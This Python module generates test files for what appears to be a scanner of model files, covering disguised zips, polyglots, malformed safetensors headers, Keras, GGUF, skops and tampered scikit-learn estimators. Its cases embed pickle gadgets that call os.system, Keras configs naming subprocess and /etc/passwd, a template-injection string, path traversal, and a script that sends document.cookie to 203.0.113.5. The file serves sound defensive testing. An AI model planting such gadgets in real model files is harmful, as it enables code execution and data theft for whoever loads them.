"""The seventh corpus: zips that two readers see differently, polyglots, safetensors, other kinds, estimators."""

# ruff: noqa: E501  tables of cases, one a line

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import joblib
import numpy as np
import sklearn
from carriers import COMMAND, torch_zip, zipped
from fifth_folders import PNG, gguf, js, npy, safetensors, tar
from fifth_pickles import state, torch_bytes
from fourth import EVIL, OS
from fourth_folders import good
from seventh import DANGER, ODD, UNKNOWN, file
from seventh_pickles import HONEST, NIL
from sklearn.decomposition import PCA
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.naive_bayes import GaussianNB
from sklearn.neighbors import KNeighborsClassifier
from sklearn.neural_network import MLPClassifier
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier
from skops.io import dumps


def member(name: str, data: bytes, **other: Any) -> dict[str, Any]:
    """One member; ``other`` sets fields of its two headers apart (``local_...``, ``here_...``)."""
    return {"name": name, "data": data, **other}


def raw_zip(members: list[dict[str, Any]], prefix: bytes = b"", tail: bytes = b"", comment: bytes = b"", shift: int = 0, entries: int | None = None) -> bytes:  # fmt: skip
    """A zip written by hand; the directory keeps offsets of the file without the prefix plus ``shift``."""
    out, listed = bytearray(), b""
    for entry in members:
        data = entry["data"]
        packed = entry.get("packed", data)
        at, raw = len(out), entry["name"].encode()

        def fields(where: str, entry: dict[str, Any] = entry, data: bytes = data, packed: bytes = packed) -> bytes:  # fmt: skip
            def get(key: str, default: int) -> int:
                return int(entry.get(f"{where}_{key}", entry.get(key, default)))

            sizes = struct.pack("<III", get("crc", zlib.crc32(data)), get("packed_size", len(packed)), get("size", len(data)))  # fmt: skip
            return struct.pack("<HHHHH", 20, get("flags", 0), get("method", 0), 0, 0x21) + sizes

        local = entry.get("local_name", entry["name"]).encode()
        out += b"PK\x03\x04" + fields("local") + struct.pack("<HH", len(local), len(entry.get("extra", b""))) + local + entry.get("extra", b"") + packed  # fmt: skip
        if entry.get("listed", True):
            offset = entry.get("offset", at) + shift
            listed += b"PK\x01\x02" + struct.pack("<H", 0x0314) + fields("here") + struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0o100644 << 16, offset) + raw  # fmt: skip
    count = sum(m.get("listed", True) for m in members) if entries is None else entries
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(listed), len(out) + shift, len(comment))  # fmt: skip
    return prefix + bytes(out) + listed + end + comment + tail


def as_torch(data: bytes, **other: Any) -> list[dict[str, Any]]:
    return [member("m/data.pkl", data, **other), member("m/version", b"3\n")]


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


FINE = as_torch(NIL)
ZIPS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "wrong_sum_on_the_gadget": (raw_zip(as_torch(OS, crc=1)), UNKNOWN),
    "wrong_sum_in_the_directory": (raw_zip(as_torch(OS, here_crc=1)), UNKNOWN),
    "wrong_sum_on_honest_data": (raw_zip(as_torch(NIL, crc=1)), ODD),
    "encrypted_flag_in_front": (raw_zip(as_torch(OS, local_flags=1)), UNKNOWN),
    "encrypted_flag_in_the_directory": (raw_zip(as_torch(OS, here_flags=1)), UNKNOWN),
    "encrypted_flag_on_a_neighbour": (raw_zip([*as_torch(OS), member("m/data/0", bytes(4), flags=1)]), UNKNOWN),
    "strong_encryption_flag": (raw_zip(as_torch(OS, flags=0x40)), UNKNOWN),
    "masked_headers_flag": (raw_zip(as_torch(NIL, flags=0x2000)), ODD),
    "patch_flag": (raw_zip(as_torch(NIL, flags=0x20)), ODD),
    "all_flags": (raw_zip(as_torch(OS, flags=0xFFFF)), UNKNOWN),
    "other_name_in_front": (raw_zip(as_torch(OS, local_name="m/readme.txt")), DANGER),
    "gadget_named_only_in_front": (raw_zip([member("m/note.txt", OS, local_name="m/data.pkl"), *FINE[1:]]), DANGER),
    "stored_in_front_packed_behind": (raw_zip(as_torch(OS, local_method=0, here_method=8, packed=deflated(OS))), UNKNOWN),
    "packed_in_front_stored_behind": (raw_zip(as_torch(OS, local_method=8, here_method=0)), UNKNOWN),
    "method_nobody_has": (raw_zip(as_torch(OS, method=99)), UNKNOWN),
    "size_of_nothing_in_front": (raw_zip(as_torch(OS, local_size=0, local_packed_size=0)), UNKNOWN),
    "size_of_nothing_behind": (raw_zip(as_torch(OS, here_size=0, here_packed_size=0)), ODD),
    "size_shorter_behind": (raw_zip(as_torch(NIL + OS, here_size=len(NIL), here_packed_size=len(NIL))), ODD),
    "size_of_a_terabyte": (raw_zip(as_torch(OS, size=2**32 - 1)), UNKNOWN),
    "gadget_in_nobodys_bytes": (raw_zip([*FINE, member("m/data.pkl", OS, listed=False)]), ODD),
    "gadget_twice_listed_last": (raw_zip([*FINE, member("m/data.pkl", OS)]), DANGER),
    "gadget_twice_listed_first": (raw_zip([member("m/data.pkl", OS), *FINE]), DANGER),
    "one_place_two_names": (raw_zip([*FINE, member("m/other.bin", b"", offset=0)]), ODD),
    "places_swapped": (raw_zip([member("m/data.pkl", NIL, offset=10**6), member("m/version", b"3\n")]), ODD),
    "fewer_counted_than_listed": (raw_zip([*FINE, member("m/late.pkl", OS)], entries=2), UNKNOWN),
    "more_counted_than_listed": (raw_zip(FINE, entries=9), ODD),
    "before_it_a_gadget": (raw_zip(FINE, prefix=OS), DANGER),
    "before_it_zeros": (raw_zip(FINE, prefix=bytes(32)), ODD),
    "before_it_a_script": (raw_zip(FINE, prefix=f"#!/bin/sh\n{COMMAND}\nexit\n".encode()), UNKNOWN),
    "before_it_a_script_counted": (raw_zip(FINE, prefix=f"#!/bin/sh\n{COMMAND}\nexit\n".encode(), shift=10 + len(COMMAND) + 6), UNKNOWN),
    "behind_it_a_gadget": (raw_zip(FINE, tail=OS), ODD),
    "behind_it_a_zip": (raw_zip(FINE) + raw_zip(as_torch(OS)), DANGER),
    "behind_it_a_tar": (raw_zip(FINE) + tar({"a.pkl": OS}), ODD),
    "comment_that_is_a_gadget": (raw_zip(FINE, comment=OS), ODD),
    "comment_that_is_a_zip": (raw_zip(FINE, comment=raw_zip(as_torch(OS))), UNKNOWN),
    "extra_that_is_a_gadget": (raw_zip(as_torch(NIL, extra=struct.pack("<HH", 0x4242, len(OS)) + OS)), ODD),
    "extra_that_is_too_long": (raw_zip(as_torch(NIL, extra=b"\x42\x42\xff\xffab")), ODD),
    "folder_entry_with_data": (raw_zip([*FINE, member("m/data/", OS)]), ODD),
    "packed_gadget": (raw_zip(as_torch(OS, packed=deflated(OS), method=8)), DANGER),
    "packed_then_more": (raw_zip(as_torch(NIL, packed=deflated(NIL) + OS, method=8)), ODD),
    "packed_in_itself": (zipped({"a/b.zip": zipped({"c.zip": raw_zip(as_torch(OS))})}), UNKNOWN),
    "split_signature": (raw_zip(FINE, prefix=b"PK\x07\x08"), ODD),
    "only_local_headers": (raw_zip(as_torch(OS))[:150], UNKNOWN),
    "without_its_end": (raw_zip(as_torch(OS))[:-22], UNKNOWN),
}  # fmt: skip
for _name, (_data, _codes) in ZIPS.items():
    file(f"zip7_{_name}", _data, _codes, "m.pt")

SAFE = good()
END = raw_zip(as_torch(OS))
POLYGLOTS: dict[str, tuple[bytes | Callable[[], bytes], tuple[int, ...]]] = {
    "safetensors_then_torch": (SAFE + END, ODD),
    "safetensors_then_a_pickle": (SAFE + OS, ODD),
    "safetensors_with_torch_in_its_data": (safetensors(json.dumps({"w": {"dtype": "U8", "shape": [len(END)], "data_offsets": [0, len(END)]}}), END), ODD),
    "array_then_torch": (npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", bytes(16)) + END, ODD),
    "pickle_then_torch": (NIL + END, DANGER),
    "gguf_then_torch": (gguf({"general.name": "x"}) + END, UNKNOWN),
    "picture_then_torch": (PNG + END, UNKNOWN),
    "tar_then_torch": (tar({"a.txt": b"x"}) + END, UNKNOWN),
    "torch_then_tar_at_257": ((OS + bytes(600)) + tar({"a.pkl": OS}), ODD),
    "hdf_at_512_behind_a_gadget": (OS.ljust(512, b"\0") + b"\x89HDF\r\n\x1a\n" + bytes(100), ODD),
    "hdf_at_512_behind_a_zip": (END.ljust(512, b"\0")[:512] + b"\x89HDF\r\n\x1a\n" + bytes(100), UNKNOWN),
    "gzip_then_a_gadget": (gzip.compress(NIL) + OS, ODD),
    "gzip_named_by_a_gadget": (b"\x1f\x8b\x08\x08\0\0\0\0\0\x03" + OS.replace(b"\0", b"") + b"\0" + gzip.compress(NIL)[10:], ODD),
    "text_and_pickle": (b"(S'a note'\n0cos\nsystem\n(S'id'\ntR.", DANGER),
    "json_and_pickle": (b'I1\n0' + OS, DANGER),
    "onnx_that_begins_like_a_pickle": (b"\x80\x02}q\x00." + b"\x08\x08\x12\x04test", ODD),
    "java_and_pickle": (b"\xca\xfe\xba\xbe" + OS, ODD),
    "bmp_and_pickle": (b"BM" + struct.pack("<I", 200) + OS, UNKNOWN),
    "string_opcode_and_elf": (b"\x7fELF\x02\x01\x01" + bytes(9) + OS, DANGER),
    "array_in_gzip_then_torch": (gzip.compress(npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", bytes(16))) + END, ODD),
}  # fmt: skip
for _name, (_made, _codes) in POLYGLOTS.items():
    file(f"polyglot7_{_name}", _made, _codes, "m.bin")


def one(entry: str, data: bytes = bytes(8)) -> bytes:
    return safetensors(entry, data)


W = '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
TENSORS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "key_twice_by_an_escape": (one(f'{{{W},"\\u0077":{{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}}}'), ODD),
    "field_twice_by_an_escape": (one('{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"\\u0073hape":[1]}}'), ODD),
    "offsets_turned": (one('{"w":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}'), ODD),
    "two_over_one_place": (one(f'{{{W},"v":{{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}}}'), ODD),
    "product_that_wraps": (one('{"w":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,8]}}'), ODD),
    "product_that_wraps_to_two": (one('{"w":{"dtype":"F32","shape":[9223372036854775809,2],"data_offsets":[0,8]}}'), ODD),
    "tabs_behind_the_header": (one(f"{{{W}}}\t\t\t\t"), ODD),
    "lines_behind_the_header": (one(f"{{{W}}}\n\n"), ODD),
    "infinity_in_the_notes": (one(f'{{{W},"__metadata__":{{"a":Infinity}}}}'), ODD),
    "list_in_the_notes": (one(f'{{{W},"__metadata__":["a"]}}'), ODD),
    "length_with_its_highest_bit": (struct.pack("<Q", 2**63 + 10) + b"{}", ODD),
    "length_of_nothing": (struct.pack("<Q", 0) + bytes(8), ODD),
    "data_of_nobody": (one("{}"), ODD),
    "shape_of_a_text": (one('{"w":{"dtype":"F32","shape":"2","data_offsets":[0,8]}}'), ODD),
    "shape_of_truths": (one('{"w":{"dtype":"U8","shape":[true],"data_offsets":[0,1]}}', b"\1"), ODD),
    "notes_by_another_name": (one(f'{{{W},"__metadata__ ":{{"a":"b"}}}}'), ODD),
    "notes_of_source": (one(f'{{{W},"__metadata__":{{"format":"pt","config":{json.dumps(EVIL)}}}}}'), ODD),
    "notes_of_an_auto_map": (one(f'{{{W},"__metadata__":{{"format":"pt","auto_map":"{{\\"AutoModel\\":\\"modeling.Evil\\"}}"}}}}'), (0, *ODD)),
    "notes_of_an_address": (one(f'{{{W},"__metadata__":{{"format":"pt","adapter":"http://203.0.113.5/x.bin"}}}}'), (0, *ODD)),
    "notes_of_another_format": (one(f'{{{W},"__metadata__":{{"format":"pickle"}}}}'), ODD),
    "name_that_walks": (one('{"../../w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'), ODD),
    "name_of_a_method": (one('{"__class__.__init__":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'), ODD),
}  # fmt: skip
for _name, (_data, _codes) in TENSORS.items():
    file(f"safe7_{_name}", _data, _codes, "model.safetensors")

LAYER = {
    "class_name": "Lambda",
    "config": {"function": ["4wEAAAA=", None, None], "function_type": "lambda"},
}
KERAS: dict[str, dict[str, Any]] = {
    "lambda_in_a_wrapper": {"class_name": "TimeDistributed", "config": {"layer": LAYER}},
    "lambda_two_models_deep": {"class_name": "Sequential", "config": {"layers": [{"class_name": "Functional", "config": {"layers": [LAYER]}}]}},
    "function_of_a_metric": {"class_name": "Sequential", "config": {"layers": []}, "compile_config": {"metrics": [{"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}]}},
    "module_of_the_system": {"module": "os", "class_name": "system", "config": {"command": COMMAND}, "registered_name": None},
    "class_by_a_dotted_name": {"module": "keras.src.saving", "class_name": "serialization_lib.os.system", "config": {}},
    "initialiser_from_elsewhere": {"class_name": "Dense", "config": {"kernel_initializer": {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}}}},
    "lookup_of_a_file": {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
    "fetched_file": {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://203.0.113.5/x"}},
}  # fmt: skip
for _name, _config in KERAS.items():
    file(f"keras7_{_name}", zipped({"config.json": js(_config), "metadata.json": js({"keras_version": "3.9.0"}), "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(64)}), UNKNOWN, "m.keras")  # fmt: skip
    file(
        f"keras7_{_name}_in_hdf",
        b"\x89HDF\r\n\x1a\n" + bytes(88) + js(_config) + bytes(8),
        UNKNOWN,
        "m.h5",
    )
for _name, _data in {
    "template_that_imports": gguf({"tokenizer.chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
    "count_of_a_lie": gguf({"general.name": "x"}, 2**40),
    "of_version_1": b"GGUF" + struct.pack("<III", 1, 0, 0),
    "of_big_ends": b"GGUF" + struct.pack(">IQQ", 3, 0, 0),
    "named_as_weights": gguf({"general.architecture": "llama"}),
}.items():  # fmt: skip
    file(f"gguf7_{_name}", _data, UNKNOWN, "model.safetensors" if "named" in _name else "m.gguf")

R = np.random.default_rng(0)
XS, YS = R.normal(size=(40, 4)), np.arange(40) % 3


def fitted(model: Any, **changes: Any) -> Callable[[], bytes]:
    """A fitted estimator with changed attributes (a dot leads into an attribute), by joblib."""

    def make() -> bytes:
        made = model().fit(XS, YS)
        for path, value in changes.items():
            owner, (*before, last) = made, path.split("__in__")
            for step in before:
                owner = owner[int(step)] if step.isdigit() else getattr(owner, step)
            owner.__dict__[last] = (
                value(made) if callable(value) and not isinstance(value, type) else value
            )
        body = io.BytesIO()
        joblib.dump(made, body)
        return body.getvalue()

    return make


class _Evil:
    def __reduce__(self) -> Any:
        import os

        return os.system, (COMMAND,)


VERSION = sklearn.__version__.encode()
Logistic, Tree, Net = (
    LogisticRegression,
    lambda: DecisionTreeClassifier(max_depth=3),
    lambda: MLPClassifier((5,), max_iter=5),
)
ESTIMATORS: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "gadget_in_an_attribute": (fitted(Logistic, coef_=_Evil()), DANGER),
    "gadget_in_the_width": (fitted(Logistic, n_features_in_=_Evil()), DANGER),
    "class_in_an_attribute": (fitted(Logistic, l1_ratio=zipfile.ZipFile), UNKNOWN),
    "coefficients_of_two_widths": (fitted(Logistic, n_features_in_=9), ODD),
    "coefficients_of_another_class_count": (fitted(Logistic, classes_=np.arange(7)), ODD),
    "coefficients_of_objects": (fitted(Logistic, coef_=np.array([[1, "x", None, 2.0]] * 3, dtype=object)), ODD),
    "coefficients_of_three_axes": (fitted(Logistic, coef_=np.zeros((3, 4, 2))), ODD),
    "coefficients_of_text": (fitted(Logistic, coef_=np.array([["a"] * 4] * 3)), ODD),
    "intercept_of_infinity": (fitted(Logistic, intercept_=np.array([np.inf, 0, 0])), ODD),
    "method_told_as_a_number": (fitted(Logistic, predict=7), ODD),
    "class_told_in_its_state": (fitted(Logistic, __class__="x"), ODD),
    "version_of_a_page": (lambda: fitted(Logistic)().replace(VERSION, b"<b>x</b>"[: len(VERSION)]), ODD),
    "network_of_unchained_layers": (fitted(Net, coefs_=[np.zeros((4, 5)), np.zeros((6, 3))]), ODD),
    "network_that_ends_unknown": (fitted(Net, out_activation_="system"), ODD),
    "network_of_more_layers": (fitted(Net, n_layers_=99), ODD),
    "neighbours_of_not_numbers": (fitted(KNeighborsClassifier, _fit_X=np.full((40, 4), np.nan)), ODD),
    "neighbours_by_a_strange_measure": (fitted(KNeighborsClassifier, effective_metric_="pyfunc"), ODD),
    "neighbours_of_labels_outside": (fitted(KNeighborsClassifier, _y=np.full(40, 999)), ODD),
    "neighbours_told_by_a_gadget": (fitted(KNeighborsClassifier, _tree=_Evil()), DANGER),
    "means_of_not_numbers": (fitted(GaussianNB, theta_=np.full((3, 4), np.nan)), ODD),
    "priors_below_zero": (fitted(GaussianNB, class_prior_=np.array([-1.0, 1, 1])), ODD),
    "scales_of_infinity": (fitted(StandardScaler, scale_=np.full(4, np.inf)), ODD),
    "means_of_another_width": (fitted(StandardScaler, mean_=np.zeros(9)), ODD),
    "parts_of_another_width": (fitted(PCA, components_=np.zeros((4, 9))), ODD),
    "categories_of_a_gadget": (fitted(lambda: OneHotEncoder(handle_unknown="ignore"), categories_=[_Evil()]), DANGER),
    "support_outside": (fitted(SVC, support_=np.full(40, 10**6, np.int32), _n_support=np.array([10**6, 2, 3], np.int32)), ODD),
    "support_of_few_weights": (fitted(SVC, _dual_coef_=np.zeros((1, 1))), ODD),
    "support_with_a_kernel_of_a_gadget": (fitted(SVC, kernel=_Evil()), DANGER),
    "forest_of_another_kind": (fitted(lambda: RandomForestClassifier(3), estimators_=lambda m: [*m.estimators_[:2], LogisticRegression().fit(XS, YS)]), ODD),
    "forest_of_a_gadget": (fitted(lambda: RandomForestClassifier(3), estimators_=lambda m: [*m.estimators_, _Evil()]), DANGER),
    "forest_of_fewer_classes": (fitted(lambda: RandomForestClassifier(3), n_classes_=2), ODD),
    "forest_that_is_one_tree_thrice": (fitted(lambda: RandomForestClassifier(3), n_estimators=50), (0, 3, 4)),
    "tree_of_other_classes": (fitted(Tree, n_classes_=9), ODD),
    "tree_of_more_outputs": (fitted(Tree, n_outputs_=3), ODD),
    "tree_that_is_a_gadget": (fitted(Tree, tree_=_Evil()), DANGER),
    "tree_of_more_columns": (fitted(Tree, n_features_in_=2), ODD),
    "step_that_is_a_text": (fitted(lambda: Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]), steps=lambda m: [("a", "evil.module"), m.steps[1]]), ODD),
    "step_told_twice": (fitted(lambda: Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]), steps=lambda m: [("b", m.steps[0][1]), m.steps[1]]), ODD),
    "step_with_a_cache": (fitted(lambda: Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]), memory="/tmp/x"), ODD),
    "step_that_is_a_gadget": (fitted(lambda: Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]), steps=lambda m: [*m.steps, ("c", _Evil())]), DANGER),
}  # fmt: skip
for _name, (_make, _codes) in ESTIMATORS.items():
    file(f"estimator7_{_name}", _make, _codes, "m.joblib")


def skops_of(*changes: tuple[str, str], **more: bytes) -> Callable[[], bytes]:
    """A fitted regression by skops with texts of its schema replaced, and further members."""

    def make() -> bytes:
        with zipfile.ZipFile(io.BytesIO(dumps(LogisticRegression().fit(XS, YS)))) as archive:
            members = {n: archive.read(n) for n in archive.namelist()}
        text = members["schema.json"].decode()
        for old, new in changes:
            assert old in text, old
            text = text.replace(old, new, 1)
        return zipped({**members, "schema.json": text.encode(), **more})

    return make


for _name, _make in {
    "class_of_the_system": skops_of(
        ('"LogisticRegression"', '"system"'), ('"sklearn.linear_model._logistic"', '"os"')
    ),
    "class_by_a_dotted_name": skops_of(('"LogisticRegression"', '"LogisticRegression.fit"')),
    "module_by_another_path": skops_of(
        ('"sklearn.linear_model._logistic"', '"sklearn.utils._mocking"')
    ),
    "loader_of_a_method": skops_of(('"ObjectNode"', '"MethodNode"')),
    "loader_of_a_function": skops_of(('"ObjectNode"', '"FunctionNode"')),
    "array_elsewhere": skops_of(('.npy"', '.npy/../../../etc/passwd"')),
    "member_of_a_gadget": skops_of(**{"x.npy": OS}),
    "schema_below": skops_of(**{"x/schema.json": b"{}"}),
}.items():
    file(
        f"skops7_{_name}",
        _make,
        ODD if _name in ("schema_below", "array_elsewhere") else UNKNOWN,
        "m.skops",
    )


def weights_with(payload: bytes) -> Callable[[], bytes]:
    def make() -> bytes:
        import torch

        raw = payload + bytes(-len(payload) % 4)
        return torch_bytes(
            {**state(), "head.weight": torch.frombuffer(bytearray(raw), dtype=torch.float32)}
        )

    return make


for _name, _payload in {
    "a_library": b"\x7fELF\x02\x01\x01" + bytes(9) + R.bytes(2000),
    "a_torch_file": torch_zip(OS),
    "a_script": f"#!/usr/bin/env python\n{EVIL}\n".encode() * 40,
    "a_page": b"<html><script>fetch('http://203.0.113.5/'+document.cookie)</script></html>" * 20,
}.items():
    file(f"stowed7_{_name}", weights_with(_payload), ODD, "m.pt")
_ = HONEST
